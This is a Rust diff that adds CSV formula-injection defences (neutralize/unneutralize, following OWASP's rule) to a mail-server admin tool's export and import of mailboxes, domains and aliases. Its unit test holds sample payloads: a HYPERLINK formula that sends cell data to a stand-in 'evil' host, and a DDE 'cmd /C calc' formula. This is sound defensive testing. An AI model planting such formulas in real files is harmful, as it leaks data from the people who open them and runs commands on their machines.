@@ -5,6 +5,12 @@
 //! hashed here, across all cores, before any transaction opens.
 //! Export reads keyset pages of `PAGE` rows, so memory stays constant
 //! whatever the table size.
+//!
+//! Formula injection: a spreadsheet runs a cell starting with `=`, `+`,
+//! `-`, `@`, TAB or CR as a formula, and names and descriptions come from
+//! scoped users. Export prefixes such a cell with `'` (OWASP's rule), and
+//! import takes that one `'` off again, so the file round-trips exactly
+//! (`neutralize` / `unneutralize`).
 
 use std::io::{Read, Write};
 
@@ -30,6 +36,45 @@ pub const DOMAIN_HEADER: [&str; 8] = [
     "status",
 ];
 pub const ALIAS_HEADER: [&str; 4] = ["address", "goto", "description", "status"];
+
+/// What makes a spreadsheet read a cell as a formula.
+fn formula_start(c: char) -> bool {
+    matches!(c, '=' | '+' | '-' | '@' | '\t' | '\r')
+}
+
+/// A cell as exported: `'` in front when a spreadsheet would run it as a
+/// formula. A cell already starting with quotes before such a character
+/// (`'=x`) gets one more, so `unneutralize` gives back exactly what was
+/// stored; any other cell (`'quoted'`, `-` nowhere first) is unchanged.
+pub fn neutralize(cell: &str) -> std::borrow::Cow<'_, str> {
+    if cell.trim_start_matches('\'').starts_with(formula_start) {
+        std::borrow::Cow::Owned(format!("'{cell}"))
+    } else {
+        std::borrow::Cow::Borrowed(cell)
+    }
+}
+
+/// A cell as imported: the one `'` that `neutralize` added taken off (a
+/// quote followed, after any further quotes, by a formula character);
+/// everything else as it is.
+pub fn unneutralize(cell: &str) -> &str {
+    match cell.strip_prefix('\'') {
+        Some(rest) if rest.trim_start_matches('\'').starts_with(formula_start) => rest,
+        _ => cell,
+    }
+}
+
+/// Write one record with every cell neutralized.
+fn write_cells<W: Write, const N: usize>(
+    w: &mut csv::Writer<W>,
+    cells: [&str; N],
+) -> csv::Result<()> {
+    w.write_record(cells.iter().map(|c| neutralize(c).into_owned()))
+}
+
+/// Columns taken verbatim on import: a plaintext password may begin with
+/// `'=` and mean it, and an export never writes one (hashes start `{`).
+const VERBATIM: [&str; 1] = ["password"];
 
 /// Read records with their line numbers; the header must name exactly
 /// `header`'s columns (in any order). Returns, for each record, its line
@@ -85,7 +130,19 @@ fn records<R: Read>(input: R, header: &[&str]) -> OpResult<Vec<(u64, Vec<String>
                 if r.iter().all(|f| f.trim().is_empty()) {
                     continue;
                 }
-                out.push((line, idx.iter().map(|&i| r[i].to_string()).collect()));
+                out.push((
+                    line,
+                    idx.iter()
+                        .zip(header)
+                        .map(|(&i, h)| {
+                            if VERBATIM.contains(h) {
+                                r[i].to_string()
+                            } else {
+                                unneutralize(&r[i]).to_string()
+                            }
+                        })
+                        .collect(),
+                ));
             }
             Err(e) => {
                 let line = e.position().map(|p| p.line()).unwrap_or(0);
@@ -362,13 +419,16 @@ pub fn export_mailboxes<W: Write>(
         |page| ops::mailboxes::list(conn, ctx, filter, page),
         |m| m.username.as_str(),
         |w, m| {
-            w.write_record([
-                m.username.as_str(),
-                if hashes { m.password_hash.as_str() } else { "" },
-                &m.quota_limit.to_string(),
-                m.name.as_deref().unwrap_or(""),
-                m.status.as_str(),
-            ])
+            write_cells(
+                w,
+                [
+                    m.username.as_str(),
+                    if hashes { m.password_hash.as_str() } else { "" },
+                    &m.quota_limit.to_string(),
+                    m.name.as_deref().unwrap_or(""),
+                    m.status.as_str(),
+                ],
+            )
         },
     )
 }
@@ -385,16 +445,19 @@ pub fn export_domains<W: Write>(
         |page| ops::domains::list(conn, ctx, filter, page),
         |d| d.name.as_str(),
         |w, d| {
-            w.write_record([
-                d.name.as_str(),
-                d.description.as_deref().unwrap_or(""),
-                &d.quota_limit.to_string(),
-                &d.max_mailboxes.to_string(),
-                &d.max_aliases.to_string(),
-                &d.max_mailbox_quota.to_string(),
-                d.transport.as_deref().unwrap_or(""),
-                d.status.as_str(),
-            ])
+            write_cells(
+                w,
+                [
+                    d.name.as_str(),
+                    d.description.as_deref().unwrap_or(""),
+                    &d.quota_limit.to_string(),
+                    &d.max_mailboxes.to_string(),
+                    &d.max_aliases.to_string(),
+                    &d.max_mailbox_quota.to_string(),
+                    d.transport.as_deref().unwrap_or(""),
+                    d.status.as_str(),
+                ],
+            )
         },
     )
 }
@@ -411,12 +474,49 @@ pub fn export_aliases<W: Write>(
         |page| ops::aliases::list(conn, ctx, filter, page),
         |a| a.address.as_str(),
         |w, a| {
-            w.write_record([
-                a.address.as_str(),
-                a.goto.as_str(),
-                a.description.as_deref().unwrap_or(""),
-                a.status.as_str(),
-            ])
+            write_cells(
+                w,
+                [
+                    a.address.as_str(),
+                    a.goto.as_str(),
+                    a.description.as_deref().unwrap_or(""),
+                    a.status.as_str(),
+                ],
+            )
         },
     )
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn formula_cells_get_one_quote_and_lose_it_again() {
+        for (stored, exported) in [
+            (
+                "=HYPERLINK(\"http://evil/?x=\"&A1,\"x\")",
+                "'=HYPERLINK(\"http://evil/?x=\"&A1,\"x\")",
+            ),
+            ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
+            ("-1+1", "'-1+1"),
+            ("@SUM(1,2)", "'@SUM(1,2)"),
+            ("\t=1", "'\t=1"),
+            ("\r=1", "'\r=1"),
+            ("'=x", "''=x"),
+            ("''+x", "'''+x"),
+            ("'quoted' name", "'quoted' name"),
+            ("'", "'"),
+            ("", ""),
+            ("plain -1", "plain -1"),
+            ("5", "5"),
+        ] {
+            assert_eq!(neutralize(stored), exported, "{stored:?}");
+            assert_eq!(unneutralize(exported), stored, "{exported:?}");
+        }
+        // A hand-written value not from an export: only a quote before a
+        // formula character goes.
+        assert_eq!(unneutralize("'5"), "'5");
+        assert_eq!(unneutralize("-1"), "-1");
+    }
 }
